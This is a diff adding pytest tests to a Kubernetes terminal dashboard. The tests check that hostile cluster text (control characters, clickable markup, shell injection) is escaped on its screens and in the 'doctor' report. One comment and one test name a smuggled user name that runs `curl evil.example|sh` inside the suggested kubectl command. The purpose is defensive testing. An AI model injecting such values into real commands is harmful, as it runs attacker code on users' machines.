@@ -11,6 +11,7 @@ dashboard, the --log file, `ktopui top` and the doctor report.
 from __future__ import annotations
 
 import json
+import re
 
 import pytest
 
@@ -66,3 +67,151 @@ def test_hostile_errors_answer_with_a_hostile_status_message(hostile_sim, sim_ap
     assert answer.status_code == 500
     assert hostile.STATUS_MESSAGE in answer.json()["message"]
     assert api.get("/api/v1/nodes").status_code == 200
+
+
+# -- the dashboard --------------------------------------------------------------------
+
+SIZE = (240, 50)
+
+
+def shown(app) -> str:
+    """What the terminal would get for the whole screen (modal backgrounds included), as text;
+    asserts on the way that no segment carries a raw control, a link or a click action."""
+    update = app.screen._compositor.render_update(full=True, screen_stack=app._background_screens)
+    lines = []
+    for line in update.strips:
+        text = ""
+        for strip in line:
+            for segment in strip:
+                assert segment.control is None
+                assert not raw_controls(segment.text), (segment.text, raw_controls(segment.text))
+                style = segment.style
+                assert style is None or not style.link, segment
+                assert style is None or "@click" not in (style.meta or {}), segment
+                text += segment.text
+        lines.append(text)
+    return "\n".join(lines)
+
+
+async def wait_for(pilot, condition, what: str) -> None:
+    for _ in range(200):
+        if condition():
+            return
+        await pilot.pause(0.05)
+    raise AssertionError(f"never happened: {what}")
+
+
+async def test_every_screen_shows_hostile_cluster_text_escaped_and_never_as_markup(
+        hostile_sim, tmp_path, monkeypatch):
+    from helpers.app import make_app, refresh, refreshed, table
+
+    from ktopui.safe_text import escape_controls
+    from ktopui.ui.screens import DoctorScreen, HelpScreen, NamespaceScreen, NodePodsScreen, PodScreen
+
+    monkeypatch.chdir(tmp_path)  # where the markup's screenshot action would write pwned.svg
+    app = make_app(hostile_sim.write_kubeconfig(tmp_path / "config"))
+    async with app.run_test(size=SIZE) as pilot:
+        await refreshed(app, pilot)
+        hostile_sim.cluster.advance(15)  # a second sample: the pod's charts are drawn
+        await refresh(app, pilot)
+
+        nodes = shown(app)
+        assert escape_controls(hostile.NODE) in nodes
+        assert escape_controls(hostile.VERSION) in nodes  # the header's server version
+
+        await pilot.press("2")
+        table(app, "pods").select_key((hostile.NAMESPACE, hostile.POD))
+        await pilot.pause()
+        pods = shown(app)
+        assert escape_controls(hostile.POD) in pods
+        assert escape_controls(hostile.WAITING_REASON)[:11] in pods  # (the STATUS column cuts it)
+
+        await pilot.press("1")
+        table(app, "nodes").select_key(hostile.NODE)
+        await pilot.press("enter")
+        await wait_for(pilot, lambda: isinstance(app.screen, NodePodsScreen), "the node's pods")
+        await pilot.pause()
+        assert escape_controls(hostile.NODE) in shown(app)  # the breadcrumb
+
+        table(app).select_key((hostile.NAMESPACE, hostile.POD))
+        await pilot.press("enter")
+        await wait_for(pilot, lambda: isinstance(app.screen, PodScreen), "the pod's screen")
+        await pilot.pause(0.3)
+        pod = shown(app)
+        for text in (hostile.NAMESPACE, hostile.POD, hostile.NODE, hostile.CONTAINER, hostile.WAITING_REASON):
+            assert escape_controls(text) in pod, text  # breadcrumb, summary, containers, chart legend
+        assert pod.count(escape_controls(hostile.CONTAINER)) >= 2  # the table and the legend
+
+        await pilot.press("escape", "escape", "question_mark")
+        await wait_for(pilot, lambda: isinstance(app.screen, HelpScreen), "help")
+        shown(app)
+        await pilot.press("escape", "d")
+        await wait_for(pilot, lambda: isinstance(app.screen, DoctorScreen) and app.screen.findings is not None,
+                       "the doctor's findings")
+        await pilot.pause()
+        doctor = shown(app)
+        assert escape_controls(hostile.VERSION) in doctor
+        await pilot.press("escape", "s")
+        await wait_for(pilot, lambda: isinstance(app.screen, NamespaceScreen), "the namespace picker")
+        await pilot.pause()
+        picker = shown(app)
+        # Options wrap in the picker's box: their first 40 characters are on one line.
+        assert escape_controls(hostile.NAMESPACE)[:40] in picker  # (its bad markup raised MarkupError)
+        assert hostile.MARKUP_NAMESPACE[:40] in picker  # markup shown as the text it is
+
+        # A click on the option runs no action: the namespace is picked, no file is written.
+        lines = picker.splitlines()
+        y = next(i for i, line in enumerate(lines) if "clic" in line)
+        x = lines[y].index("clic")
+        await pilot.click(offset=(x, y))
+        await wait_for(pilot, lambda: app.namespace == hostile.MARKUP_NAMESPACE, "the namespace picked")
+        await pilot.pause(0.3)
+        assert not list(tmp_path.glob("*.svg"))
+        assert app.is_running
+        shown(app)
+
+
+# -- the doctor ---------------------------------------------------------------------------
+
+
+def hostile_doctor(server, tmp_path, capsys, *args: str) -> str:
+    from ktopui.cli import main
+
+    server.faults.forbid(hostile.USER, "list", "nodes")  # a denial: a reason, and the RBAC to ask for
+    server.faults.metrics_unavailable("FailedDiscoveryCheck", message=hostile.STATUS_MESSAGE)
+    # (a kubeconfig namespace must be a DNS label: only the context's name can be hostile there)
+    kubeconfig = server.write_kubeconfig(tmp_path / "config", context=f"ctx{hostile.TITLE}")
+    main(["doctor", "--kubeconfig", str(kubeconfig), *args])
+    return capsys.readouterr().out
+
+
+def test_the_doctor_report_escapes_what_the_server_says(hostile_sim, tmp_path, capsys):
+    from ktopui.safe_text import escape_controls
+
+    out = hostile_doctor(hostile_sim, tmp_path, capsys)
+    assert not raw_controls(out)
+    for text in (hostile.USER, hostile.VERSION, hostile.STATUS_MESSAGE, f"ctx{hostile.TITLE}"):
+        assert escape_controls(text) in out, text
+
+
+def test_the_doctor_quotes_server_and_user_text_in_the_commands_it_suggests(hostile_sim, tmp_path, capsys):
+    import shlex
+
+    from ktopui.safe_text import escape_controls
+
+    out = hostile_doctor(hostile_sim, tmp_path, capsys)
+    user = escape_controls(shlex.quote(hostile.USER))
+    # `--user='jane... $(curl evil.example|sh)'`: pasted into a shell, nothing runs.
+    assert f"kubectl create clusterrolebinding ktopui-reader --clusterrole=ktopui-reader --user={user}`" in out
+    commands = [c for c in re.findall(r"`([^`]*)`", out) if "$(curl" in c]
+    assert commands
+    for command in commands:  # the user name stays one word: the shell runs nothing from it
+        assert f"--user={escape_controls(hostile.USER)}" in shlex.split(command), command
+
+
+def test_the_doctor_json_keeps_server_text_exact_but_escaped(hostile_sim, tmp_path, capsys):
+    out = hostile_doctor(hostile_sim, tmp_path, capsys, "-o", "json")
+    assert not raw_controls(out.replace("\n", ""))
+    doc = json.loads(out)
+    assert doc["context"] == f"ctx{hostile.TITLE}"
+    assert any(hostile.USER.replace("\x1b", "\\x1b") in f["detail"] for f in doc["findings"])
